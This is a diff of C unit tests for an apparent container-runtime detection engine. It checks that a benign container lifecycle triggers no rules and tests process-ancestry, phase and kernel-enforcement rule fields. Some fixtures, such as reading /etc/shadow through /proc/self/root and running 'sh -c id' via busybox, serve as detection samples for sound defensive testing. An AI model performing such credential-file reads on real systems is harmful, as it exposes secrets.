+	{ .sc = "setns", .a = { 5, 0x20000 }, .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "unshare", .a = { 0x20000 }, .init = true, .comm = "runc:[1:CHILD]" },
+	{ .sc = "openat", .path = "/etc/hostname", .a = { 0, 0, WR }, .init = true,
+	  .comm = "runc:[2:INIT]" },
+	/* the entrypoint: a shell script, exec'd by the runtime */
+	{ .sc = "execve", .path = "/bin/sh", .extra = "sh /entrypoint.sh", .proc = &p_entry_sh,
+	  AGE(0) },
+	{ .sc = "openat", .path = "/entrypoint.sh", .proc = &p_entry_sh, AGE(0) },
+	/* ... that starts servers on loopback (busybox httpd, python) and an
+	 * ordinary server on every address (nginx) */
+	{ .sc = "execve", .path = "/bin/httpd", .extra = "httpd -f -p 127.0.0.1:8080",
+	  .proc = &p_bb_httpd, AGE(0) },
+	{ .sc = "bind", .ip = "127.0.0.1", .port = 8080, .proc = &p_bb_httpd, AGE(0) },
+	{ .sc = "listen", .a = { 3, 128 }, .proc = &p_bb_httpd, AGE(0) },
+	{ .sc = "accept", .ip = "127.0.0.1", .port = 40312, .proc = &p_bb_httpd, AGE(1) },
+	{ .sc = "execve", .path = "/usr/bin/python3",
+	  .extra = "python3 -m http.server --bind 127.0.0.1 8000", .proc = &p_python_srv, AGE(0) },
+	{ .sc = "bind", .ip = "127.0.0.1", .port = 8000, .proc = &p_python_srv, AGE(0) },
+	{ .sc = "listen", .a = { 3, 5 }, .proc = &p_python_srv, AGE(0) },
+	{ .sc = "bind", .ip = "0.0.0.0", .port = 80, .proc = &p_nginx, AGE(0) },
+	{ .sc = "bind", .ip = "::", .port = 80, .proc = &p_nginx, AGE(0) },
+	{ .sc = "listen", .a = { 6, 511 }, .proc = &p_nginx, AGE(0) },
+	{ .sc = "openat", .path = "/etc/passwd", .proc = &p_nginx, AGE(0) },
+	/* ... and talks to them */
+	{ .sc = "execve", .path = "/bin/wget", .extra = "wget -q -O- http://127.0.0.1:8080/",
+	  .proc = &p_bb_wget, AGE(2) },
+	{ .sc = "connect", .ip = "127.0.0.1", .port = 8080, .proc = &p_bb_wget, AGE(2) },
+	{ .sc = "connect", .ip = "::1", .port = 8000, .proc = &p_bb_wget, AGE(2) },
+	{ .sc = "execve", .path = "/bin/sh", .extra = "sh /healthcheck.sh", .proc = &p_script_sh,
+	  AGE(40) },
+	/* docker exec c cat /etc/hostname: the runtime's set-up, then cat */
+	{ .sc = "setns", .a = { 5, 0 }, .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "capset", .init = true, .comm = "runc:[2:INIT]" },
+	{ .sc = "execve", .path = "/bin/cat", .extra = "cat /etc/hostname", .proc = &p_exec_cat,
+	  AGE(60) },
+	{ .sc = "openat", .path = "/etc/hostname", .proc = &p_exec_cat, AGE(60) },
+	{ .sc = "exit_group", .proc = &p_exec_cat, AGE(60) },
+	/* docker stop: the entrypoint gets SIGTERM from outside and exits */
+	{ .sc = "exit_group", .proc = &p_entry_sh, AGE(90) },
+};
+
+static void test_normal_life_quiet(void **state)
+{
+	const struct rule_set *rs = *state;
+
+	for (size_t i = 0; i < ARRAY_SIZE(normal_life); i++) {
+		struct built *b = build(&normal_life[i]);
+
+		for (size_t r = 0; r < rules__count(rs); r++) {
+			if (rule_matches(rules__get(rs, r), &b->v))
+				fail_msg("normal life %zu (%s %s): rule %s fired", i,
+					 normal_life[i].sc,
+					 normal_life[i].path ? normal_life[i].path : "",
+					 rule_name(rules__get(rs, r)));
+		}
+		free(b);
+	}
+}
+
+/* No default rule has an exception on comm: a process chooses its comm. */
+static void test_default_no_comm_exceptions(void **state)
+{
+	FILE *f = fopen(DEFAULT_RULES, "r");
+	char line[512];
+	int n = 0;
+
+	(void)state;
+	assert_non_null(f);
+	while (fgets(line, sizeof(line), f)) {
+		n++;
+		if (strstr(line, "comm:") || strstr(line, "runtime_setup"))
+			fail_msg("%s:%d: %s", DEFAULT_RULES, n, line);
+	}
+	fclose(f);
 }
 
 /* ---- rules check ---- */
@@ -748,6 +1103,189 @@ static void test_render_unknown(void **state)
 	rule_render(find(*state, "glob_alert"), &b->v, buf, sizeof(buf));
 	assert_string_equal(buf, "glob_alert medium alert /etc/hosts %unknown 100% vi%");
 	free(b);
+}
+
+/* ---- the process-table fields, phase, path_arg ---- */
+
+struct want_err;
+static void expect_errors(const char *path, const struct want_err *want, size_t n);
+
+static int setup_procfields(void **state)
+{
+	const char *path = FIX "procfields.yaml";
+	struct rule_errors errs = { 0 };
+
+	*state = load(&path, 1, &errs);
+	rule_errors_free(&errs);
+	return *state ? 0 : -1;
+}
+
+static bool fires(const struct rule_set *rs, const char *rule, const struct ev_spec *sp)
+{
+	struct built *b = build(sp);
+	bool hit = rule_matches(find(rs, rule), &b->v);
+
+	free(b);
+	return hit;
+}
+
+#define YES(rule, ...) assert_true(fires(rs, rule, &(struct ev_spec){ __VA_ARGS__ }))
+#define NO(rule, ...) assert_false(fires(rs, rule, &(struct ev_spec){ __VA_ARGS__ }))
+
+static const struct proc p_deep = {
+	.self = PI("worker", "/usr/bin/python3.11", 20, 0),
+	.anc = { PI("java", "/opt/java/bin/java", 19, EXECS), PI("sh", DASH, 18, 0),
+		 PI("tini", "/usr/bin/tini", 17, ENTRY), PI("", "", 16, 0) },
+	.n_anc = 4, .tty = true, .tty_name = "pts/7" };
+static const struct proc p_orphan = { .self = PI("init", "/sbin/init", 1, ENTRY) };
+
+static void test_proc_fields(void **state)
+{
+	const struct rule_set *rs = *state;
+
+	/* the parent: anc[0]; absent without a known process or parent */
+	YES("parent_java", .sc = "openat", .path = "/x", .proc = &p_deep);
+	YES("parent_comm_java", .sc = "openat", .path = "/x", .proc = &p_deep);
+	NO("parent_java", .sc = "openat", .path = "/x", .proc = &p_orphan);
+	NO("parent_java", .sc = "openat", .path = "/x");
+	NO("parent_comm_java", .sc = "openat", .path = "/x", .proc = &p_cat);
+	/* ancestors: any of them; ne: none of them (and the field must be there) */
+	YES("ancestor_tini", .sc = "openat", .path = "/x", .proc = &p_deep);
+	YES("ancestor_glob_tini", .sc = "openat", .path = "/x", .proc = &p_deep);
+	NO("ancestor_tini", .sc = "openat", .path = "/x", .proc = &p_cat);
+	NO("no_ancestor_is_sh", .sc = "openat", .path = "/x", .proc = &p_deep);
+	YES("no_ancestor_is_sh", .sc = "openat", .path = "/x", .proc = &p_java_id);
+	NO("no_ancestor_is_sh", .sc = "openat", .path = "/x", .proc = &p_orphan);
+	NO("no_ancestor_is_sh", .sc = "openat", .path = "/x");
+	/* booleans: false when the process is unknown, for true, false and ne */
+	YES("with_tty", .sc = "openat", .path = "/x", .proc = &p_deep);
+	NO("without_tty", .sc = "openat", .path = "/x", .proc = &p_deep);
+	YES("without_tty", .sc = "openat", .path = "/x", .proc = &p_cat);
+	YES("not_tty", .sc = "openat", .path = "/x", .proc = &p_cat);
+	NO("with_tty", .sc = "openat", .path = "/x");
+	NO("without_tty", .sc = "openat", .path = "/x");
+	NO("not_tty", .sc = "openat", .path = "/x");
+	YES("is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_entry_sh);
+	NO("is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_exec_cat);
+	YES("is_exec_session", .sc = "openat", .path = "/x", .proc = &p_exec_cat);
+	NO("is_exec_session", .sc = "openat", .path = "/x", .proc = &p_entry_sh);
+	YES("parent_is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_cat);
+	NO("parent_is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_deep);
+	NO("parent_is_entrypoint", .sc = "openat", .path = "/x", .proc = &p_orphan);
+	YES("parent_is_exec_session", .sc = "openat", .path = "/x", .proc = &p_deep);
+	NO("parent_is_exec_session", .sc = "openat", .path = "/x", .proc = &p_cat);
+	/* the container's age in whole seconds; absent when unknown */
+	YES("young", .sc = "openat", .path = "/x", AGE(29));
+	NO("young", .sc = "openat", .path = "/x", AGE(30));
+	NO("young", .sc = "openat", .path = "/x");
+	YES("old", .sc = "openat", .path = "/x", AGE(31));
+	NO("old", .sc = "openat", .path = "/x", AGE(30));
+	NO("old", .sc = "openat", .path = "/x");
+	/* exe_name: the executed file's name, on any event of a known process */
+	YES("exe_name_dash", .sc = "openat", .path = "/x", .proc = &p_entry_sh);
+	YES("exe_name_dash", .sc = "execve", .path = "/bin/sh", .extra = "sh", .proc = &p_entry_sh);
+	NO("exe_name_dash", .sc = "execve", .path = "/bin/dash", .extra = "dash",
+	   .exe = "/usr/local/bin/dash-copy");
+	NO("exe_name_dash", .sc = "openat", .path = "/x", .comm = "dash");
+	/* program: the executed file's name, and on an exec the name asked
+	 * for (path_arg when set) and argv[0] (argv[1] after busybox) */
+	YES("program_sh", .sc = "execve", .path = "/bin/sh", .extra = "x", .exe = "/usr/bin/dash");
+	YES("program_sh", .sc = "execve", .path = "/bin/busybox", .extra = "sh -c id",
+	    .exe = "/bin/busybox");
+	YES("program_sh", .sc = "execve", .path = "/bin/busybox", .extra = "/bin/busybox sh",
+	    .exe = "/bin/busybox");
+	YES("program_sh", .sc = "execve", .path = "/bin/busybox", .path_arg = "/bin/sh",
+	    .extra = "ls", .exe = "/bin/busybox");
+	NO("program_sh", .sc = "execve", .path = "/bin/busybox", .extra = "busybox",
+	   .exe = "/bin/busybox");
+	NO("program_sh", .sc = "openat", .path = "/x", .exe = "/bin/busybox", .comm = "sh");
+	YES("program_sh", .sc = "openat", .path = "/x", .exe = "/bin/sh");
+	YES("program_not_sh", .sc = "execve", .path = "/usr/bin/id", .extra = "id");
+	NO("program_not_sh", .sc = "execve", .path = "/usr/bin/id", .extra = "sh");
+	NO("program_not_sh", .sc = "openat", .path = "/x"); /* no exe known */
+	/* path_arg: as spelled; the path itself when the kernel kept it */
+	YES("spelled_via_proc_self", .sc = "openat", .path = "/etc/shadow",
+	    .path_arg = "/proc/self/root/etc/shadow");
+	YES("spelled_via_proc_self", .sc = "openat", .path = "/proc/self/status");
+	NO("spelled_via_proc_self", .sc = "openat", .path = "/etc/shadow",
+	   .path_arg = "/etc/../etc/shadow");
+	NO("spelled_via_proc_self", .sc = "kill", .a = { 1, 9 });
+}
+
+/* A rule without phase judges the workload only; phase: init, both, ne. */
+static void test_phase(void **state)
+{
+	const struct rule_set *rs = *state;
+	const char *const rules[] = { "no_phase", "phase_init", "phase_both", "phase_not_init",
+				      "phase_in_macro" };
+	const bool on_init[] = { false, true, true, false, true };
+	const bool on_work[] = { true, false, true, true, false };
+	struct kernel_spec ks;
+	char why[256];
+
+	for (size_t i = 0; i < ARRAY_SIZE(rules); i++) {
+		struct ev_spec init = { .sc = "mknodat", .path = "/dev/null", .init = true };
+		struct ev_spec work = { .sc = "mknodat", .path = "/dev/null" };
+
+		if (fires(rs, rules[i], &init) != on_init[i] ||
+		    fires(rs, rules[i], &work) != on_work[i])
+			fail_msg("%s: init %d workload %d", rules[i], fires(rs, rules[i], &init),
+				 fires(rs, rules[i], &work));
+	}
+	/* kill/deny rules with phase workload (or ne init) are the kernel's */
+	assert_int_equal(rules__kernel_spec(find(rs, "kill_workload_bpf"), &ks, why,
+					    sizeof(why)), 0);
+	assert_true(ks.syscalls[__NR_bpf]);
+	assert_int_equal(count_syscalls(&ks), 1);
+	assert_int_equal(rules__kernel_spec(find(rs, "deny_not_init"), &ks, why, sizeof(why)), 0);
+	assert_int_equal(ks.n_ports, 1);
+}
+
+static void test_render_proc(void **state)
+{
+	const struct rule_set *rs = *state;
+	struct ev_spec sp = { .sc = "execve", .path = "/bin/sh", .extra = "sh -c id",
+		.path_arg = "/proc/self/fd/3", .proc = &p_deep, .init = true, AGE(12) };
+	struct ev_spec bare = { .sc = "execve", .path = "/bin/sh", .extra = "sh" };
+	struct built *b = build(&sp);
+	char buf[512];
+
+	rule_render(find(rs, "render_all"), &b->v, buf, sizeof(buf));
+	/* program: the file's name, the name asked ("3"), argv[0]; the
+	 * fourth ancestor has no exe nor comm: left out */
+	assert_string_equal(buf, "init|/usr/bin/python3.11|python3.11|python3.11 3 sh|"
+				 "/opt/java/bin/java|java|19|"
+				 "/opt/java/bin/java /usr/bin/dash /usr/bin/tini|java sh tini|pts/7|"
+				 "false|false|false|true|12.250|/proc/self/fd/3");
+	free(b);
+	/* nothing known: empty, never stale */
+	b = build(&bare);
+	rule_render(find(rs, "render_all"), &b->v, buf, sizeof(buf));
+	assert_string_equal(buf, "workload|/bin/sh|sh|sh sh sh||||||||||||/bin/sh");
+	free(b);
+}
+
+static void test_check_proc_fields(void **state)
+{
+	static const struct want_err want[] = {
+		{ 3, "'yes' is not a boolean for field 'tty' (true or false)" },
+		{ 5, "'1' is not a boolean for field 'entrypoint'" },
+		{ 7, "operator 'prefix' does not apply to field 'exec_session'" },
+		{ 9, "operator 'in' does not apply to field 'tty'" },
+		{ 11, "unknown phase 'setup' (init or workload)" },
+		{ 13, "operator 'glob' does not apply to field 'phase'" },
+		{ 15, "-1 out of range for field 'container_age'" },
+		{ 17, "rule 'kill_parent': action kill needs a match the kernel can evaluate: "
+		      "'parent_exe' is known only in user space" },
+		{ 20, "'tty' is known only in user space" },
+		{ 23, "phase init: the kernel never kills or denies in the runtime's set-up" },
+		{ 26, "phase init: the kernel never kills" },
+		{ 29, "'container_age' is known only in user space" },
+		{ 32, "'program' is known only in user space" },
+	};
+
+	(void)state;
+	expect_errors(FIX "procfields_bad.yaml", want, ARRAY_SIZE(want));
 }
 
 /* ---- cli ---- */
@@ -1202,6 +1740,8 @@ int main(void)
 		cmocka_unit_test(test_default_actions),
 		cmocka_unit_test(test_default_kernel_specs),
 		cmocka_unit_test(test_render),
+		cmocka_unit_test(test_normal_life_quiet),
+		cmocka_unit_test(test_default_no_comm_exceptions),
 	};
 	const struct CMUnitTest check_tests[] = {
 		cmocka_unit_test(test_check_errors),
@@ -1226,6 +1766,7 @@ int main(void)
 		cmocka_unit_test(test_check_signals),
 		cmocka_unit_test(test_signal_forms_match),
 		cmocka_unit_test(test_check_duplicate_keys),
+		cmocka_unit_test(test_check_proc_fields),
 		cmocka_unit_test(test_scale_100k),
 		cmocka_unit_test(test_scale_200k),
 		cmocka_unit_test(test_limit_depth),
@@ -1239,6 +1780,11 @@ int main(void)
 		cmocka_unit_test(test_limit_macro_depth),
 		cmocka_unit_test(test_limit_errors),
 	};
+	const struct CMUnitTest proc_tests[] = {
+		cmocka_unit_test(test_proc_fields),
+		cmocka_unit_test(test_phase),
+		cmocka_unit_test(test_render_proc),
+	};
 	int fails = 0;
 
 	fails += cmocka_run_group_tests_name("default rules", default_tests, setup_default,
@@ -1246,6 +1792,8 @@ int main(void)
 	fails += cmocka_run_group_tests_name("rules check", check_tests, NULL, NULL);
 	fails += cmocka_run_group_tests_name("kernel spec", kernel_tests, setup_kernel,
 					     teardown_default);
+	fails += cmocka_run_group_tests_name("process fields and phase", proc_tests,
+					     setup_procfields, teardown_default);
 	fails += cmocka_run_group_tests_name("limits and new errors", limit_tests, NULL, NULL);
 	return fails;
 }
